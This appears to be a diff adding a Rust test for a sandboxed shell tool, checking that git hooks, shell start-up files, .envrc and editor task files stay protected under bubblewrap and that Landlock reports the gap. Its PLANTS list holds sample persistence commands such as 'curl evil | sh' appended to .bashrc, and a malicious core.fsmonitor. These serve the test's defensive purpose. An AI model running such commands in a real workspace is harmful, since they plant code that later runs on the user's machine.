@@ -1,0 +1,337 @@
+//! Protected paths under `workspace-write`, with real git, as root and as
+//! an unprivileged user, each backend forced.
+//!
+//! Under bubblewrap every attempt to plant something that runs later on
+//! the host (a git hook, `core.fsmonitor`, a shell start-up file, an
+//! `.envrc`, editor tasks) is judged by what changed on the host: nothing
+//! may. `git status` works; a commit needs `.git` unprotected (or the
+//! escalation path); stand-ins for missing protected paths are gone after
+//! the command. Under Landlock, which cannot keep them, the result must say
+//! so (`partial`, gap `protected-paths`) instead of claiming them.
+#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]
+
+mod common;
+
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+
+use common::confined::{as_user, base, binary, chown, skip, User, NOBODY};
+
+/// Every file and directory under `dir` with its content (files), sorted.
+fn tree(dir: &Path) -> Vec<(PathBuf, Option<Vec<u8>>)> {
+    let mut entries = Vec::new();
+    let mut pending = vec![dir.to_path_buf()];
+    while let Some(current) = pending.pop() {
+        for entry in std::fs::read_dir(&current).unwrap() {
+            let path = entry.unwrap().path();
+            let meta = std::fs::symlink_metadata(&path).unwrap();
+            let relative = path.strip_prefix(dir).unwrap().to_path_buf();
+            if meta.is_dir() {
+                pending.push(path);
+                entries.push((relative, None));
+            } else {
+                entries.push((relative, std::fs::read(&path).ok()));
+            }
+        }
+    }
+    entries.sort();
+    entries
+}
+
+fn chown_tree(dir: &Path, uid: u32) {
+    chown(dir, uid);
+    for entry in std::fs::read_dir(dir).unwrap() {
+        let path = entry.unwrap().path();
+        if std::fs::symlink_metadata(&path).unwrap().is_dir() {
+            chown_tree(&path, uid);
+        } else {
+            chown(&path, uid);
+        }
+    }
+}
+
+/// A git repository with one commit, a `.bashrc`, `.vscode/tasks.json`,
+/// owned by `user`.
+fn repository(dir: &Path, user: User) {
+    std::fs::create_dir_all(dir.join(".vscode")).unwrap();
+    std::fs::write(dir.join(".bashrc"), "# the person's own\n").unwrap();
+    std::fs::write(dir.join(".vscode/tasks.json"), "{}\n").unwrap();
+    std::fs::write(dir.join("README"), "hello\n").unwrap();
+    let git = |args: &[&str]| {
+        let status = std::process::Command::new("git")
+            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
+            .args(args)
+            .current_dir(dir)
+            .stdout(Stdio::null())
+            .status()
+            .unwrap();
+        assert!(status.success(), "git {args:?}");
+    };
+    git(&["init", "-q"]);
+    git(&["add", "README", ".bashrc", ".vscode/tasks.json"]);
+    git(&["commit", "-qm", "first"]);
+    if user == User::Nobody {
+        chown_tree(dir, NOBODY);
+    }
+}
+
+/// `dsh-bash run --json --sandbox workspace-write` in `ws`.
+fn run(user: User, backend: &str, ws: &Path, extra: &[&str], command: &str) -> serde_json::Value {
+    let home = base().join(format!("home-{user:?}"));
+    std::fs::create_dir_all(&home).unwrap();
+    if user == User::Nobody {
+        chown(&home, NOBODY);
+    }
+    let output = as_user(user, binary().to_str().unwrap())
+        .args(["run", "--json", "--sandbox", "workspace-write"])
+        .args(["--sandbox-backend", backend, "--workdir"])
+        .arg(ws)
+        .args(extra)
+        .arg("--")
+        .arg(command)
+        .env("HOME", &home)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    serde_json::from_slice(&output.stdout).unwrap_or_else(|err| {
+        panic!(
+            "{err}: {}\n{}",
+            String::from_utf8_lossy(&output.stdout),
+            String::from_utf8_lossy(&output.stderr)
+        )
+    })
+}
+
+fn usable(user: User, backend: &str) -> bool {
+    let ws = base().join(format!("probe-protected-{backend}-{user:?}"));
+    std::fs::create_dir_all(&ws).unwrap();
+    if user == User::Nobody {
+        chown(&ws, NOBODY);
+    }
+    let output = as_user(user, binary().to_str().unwrap())
+        .args(["run", "--json", "--sandbox", "read-only"])
+        .args(["--sandbox-backend", backend, "--workdir"])
+        .arg(&ws)
+        .args(["--", "true"])
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    if output.status.success() {
+        return true;
+    }
+    skip(&format!(
+        "protected paths under {backend} as {user:?}: the backend is unusable here ({})",
+        String::from_utf8_lossy(&output.stderr).trim()
+    ));
+    false
+}
+
+/// Attempts to plant what runs later on the host.
+const PLANTS: &[(&str, &str)] = &[
+    (
+        "git hook",
+        "printf '#!/bin/sh\\necho HOOKED\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
+    ),
+    (
+        "core.fsmonitor",
+        "git config core.fsmonitor 'touch /tmp/fsmonitor-ran'",
+    ),
+    ("git config by hand", "echo '[alias] st = !touch /tmp/x' >> .git/config"),
+    ("replace .git", "mv .git .git-old; mkdir .git; echo 'ref: x' > .git/HEAD"),
+    (".bashrc", "echo 'curl evil | sh' >> .bashrc"),
+    (".bashrc replaced", "rm -f .bashrc; echo evil > .bashrc"),
+    (".envrc (missing)", "echo 'curl evil | sh' > .envrc"),
+    (".zshrc (missing)", "echo evil > .zshrc"),
+    (".vscode/tasks.json", "echo '{\"tasks\": []}' > .vscode/tasks.json"),
+    (
+        ".vscode renamed away",
+        "mv .vscode .vscode-old; mkdir .vscode; echo evil > .vscode/tasks.json",
+    ),
+    (
+        ".vscode/settings.json (missing)",
+        "echo '{\"terminal.integrated.shell\": 1}' > .vscode/settings.json",
+    ),
+    (".idea (missing)", "mkdir -p .idea && echo x > .idea/workspace.xml"),
+    (".dsh-bash (missing)", "mkdir .dsh-bash; echo x > .dsh-bash/config"),
+];
+
+fn bwrap_keeps_them(user: User) {
+    let tag = format!("bwrap-{user:?}");
+    let ws = base().join(format!("protected-{tag}"));
+    repository(&ws, user);
+    let before = tree(&ws);
+    let mut broken = Vec::new();
+    for (name, command) in PLANTS {
+        let result = run(user, "bwrap", &ws, &[], command);
+        if tree(&ws) != before {
+            broken.push(*name);
+            // Start the next attempt from the original world.
+            std::fs::remove_dir_all(&ws).unwrap();
+            repository(&ws, user);
+        }
+        let facts = &result["sandbox"];
+        assert_eq!(facts["enforcement"], "full", "{tag} {name}: {facts}");
+        let protected: Vec<&str> = facts["protected"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter_map(|p| p.as_str())
+            .collect();
+        let root = std::fs::canonicalize(&ws).unwrap();
+        for expected in [".git", ".bashrc", ".envrc", ".vscode/tasks.json", ".idea"] {
+            let path = root.join(expected);
+            assert!(
+                protected.contains(&path.to_str().unwrap()),
+                "{tag} {name}: {} not among {protected:?}",
+                path.display()
+            );
+        }
+    }
+    assert!(
+        broken.is_empty(),
+        "{tag}: these changed the workspace's protected paths: {broken:?}"
+    );
+
+    // Ordinary work goes on: files are written, git reads.
+    let status = run(
+        user,
+        "bwrap",
+        &ws,
+        &[],
+        "echo new > notes.txt && git status --short && git log --oneline | wc -l",
+    );
+    assert_eq!(status["exit_code"], 0, "{tag}: {status}");
+    assert_eq!(
+        status["stdout"]["text"], "?? notes.txt\n1\n",
+        "{tag}: {status}"
+    );
+    // Committing writes .git: refused, and said so.
+    let commit = run(
+        user,
+        "bwrap",
+        &ws,
+        &[],
+        "git add notes.txt && git -c user.name=a -c user.email=a@b commit -qm second",
+    );
+    assert_ne!(commit["exit_code"], 0, "{tag}: {commit}");
+    assert_eq!(commit["sandbox"]["denied"], true, "{tag}: {commit}");
+    // With .git unprotected it works.
+    let commit = run(
+        user,
+        "bwrap",
+        &ws,
+        &["--unprotect", ".git"],
+        "git add notes.txt && git -c user.name=a -c user.email=a@b commit -qm second && git log --oneline | wc -l",
+    );
+    assert_eq!(commit["exit_code"], 0, "{tag}: {commit}");
+    assert_eq!(commit["stdout"]["text"], "2\n", "{tag}: {commit}");
+    assert!(
+        !commit["sandbox"]["protected"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|p| p.as_str().is_some_and(|p| p.ends_with("/.git"))),
+        "{tag}: {commit}"
+    );
+    // No stand-in outlived its command.
+    for missing in [
+        ".envrc",
+        ".zshrc",
+        ".idea",
+        ".dsh-bash",
+        ".vscode/settings.json",
+    ] {
+        assert!(
+            !ws.join(missing).exists(),
+            "{tag}: the stand-in {missing} was left in the workspace"
+        );
+    }
+}
+
+fn landlock_says_it_cannot(user: User) {
+    let tag = format!("landlock-{user:?}");
+    let ws = base().join(format!("protected-{tag}"));
+    repository(&ws, user);
+    let result = run(user, "landlock", &ws, &[], "git status --short");
+    assert_eq!(result["exit_code"], 0, "{tag}: {result}");
+    let facts = &result["sandbox"];
+    assert_eq!(facts["enforcement"], "partial", "{tag}: {facts}");
+    assert!(
+        facts["gaps"]
+            .as_array()
+            .unwrap()
+            .contains(&serde_json::json!("protected-paths")),
+        "{tag}: {facts}"
+    );
+    assert_eq!(facts["protected"], serde_json::json!([]), "{tag}: {facts}");
+    // Nothing protected, nothing claimed: the gap disappears.
+    let everything: Vec<&str> = dsh_sandbox::DEFAULT_PROTECTED_PATHS
+        .iter()
+        .flat_map(|path| ["--unprotect", path])
+        .collect();
+    let result = run(user, "landlock", &ws, &everything, "true");
+    assert!(
+        !result["sandbox"]["gaps"]
+            .as_array()
+            .unwrap()
+            .contains(&serde_json::json!("protected-paths")),
+        "{tag}: {result}"
+    );
+}
+
+#[test]
+fn protected_paths_hold_under_bwrap_and_landlock_says_it_cannot() {
+    let _ = std::fs::remove_dir_all(base());
+    std::fs::create_dir_all(base()).unwrap();
+    std::fs::set_permissions(base(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    if std::process::Command::new("git")
+        .arg("--version")
+        .output()
+        .is_err()
+    {
+        skip("protected paths: git is not installed");
+        return;
+    }
+    for user in [User::Root, User::Nobody] {
+        if usable(user, "bwrap") {
+            bwrap_keeps_them(user);
+        }
+        if usable(user, "landlock") {
+            landlock_says_it_cannot(user);
+        }
+    }
+    let _ = std::fs::remove_dir_all(base());
+}
+
+#[test]
+fn bad_protect_arguments_run_nothing_and_say_what_is_allowed() {
+    for (args, expected) in [
+        (
+            vec!["--protect", "/etc/passwd"],
+            "invalid protected path \"/etc/passwd\": it must be relative to the workspace root",
+        ),
+        (
+            vec!["--unprotect", ".nothing"],
+            "\".nothing\" is not a protected path; protected: .bash_login",
+        ),
+        (
+            vec!["--network", "maybe"],
+            "unknown network policy \"maybe\": expected off or on",
+        ),
+    ] {
+        let marker = base().join(format!("ran-{}", args[0].trim_start_matches('-')));
+        let output = std::process::Command::new(env!("CARGO_BIN_EXE_dsh-bash"))
+            .args(["run", "--sandbox", "workspace-write"])
+            .args(&args)
+            .arg("--")
+            .arg(format!("touch {}", marker.display()))
+            .stdin(Stdio::null())
+            .output()
+            .unwrap();
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        assert!(!output.status.success(), "{args:?}");
+        assert!(stderr.contains(expected), "{args:?}: {stderr}");
+        assert!(!marker.exists(), "{args:?} ran the command");
+    }
+}
